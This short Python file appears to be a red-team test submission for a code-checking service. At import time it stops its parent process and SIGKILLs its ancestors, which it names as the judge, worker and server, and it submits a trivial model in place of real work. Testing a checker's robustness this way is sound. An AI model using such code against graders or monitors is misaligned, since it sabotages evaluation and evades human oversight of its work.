"""Attack: stop the parent, then SIGKILL every ancestor (the judge, the worker, the server).
Only ancestors: running the attack must not be able to touch anybody else's processes."""
import os
import signal

import torch
import torch.nn as nn


def _ancestors():
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = next(int(l.split()[1]) for l in fh if l.startswith("PPid:"))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1 or not _ours(pid):
            break
        out.append(pid)
    return out


def _ours(pid):
    """A process of the checking service (a judge, worker, server or test run), never a shell."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            cmd = fh.read()
    except OSError:
        return False
    return any(w in cmd for w in (b"stitch_mcp", b"pytest", b"stitch-redteam", b"bwrap"))


chain = _ancestors()
try:
    os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
for pid in chain[1:]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 0.5 + 1.0
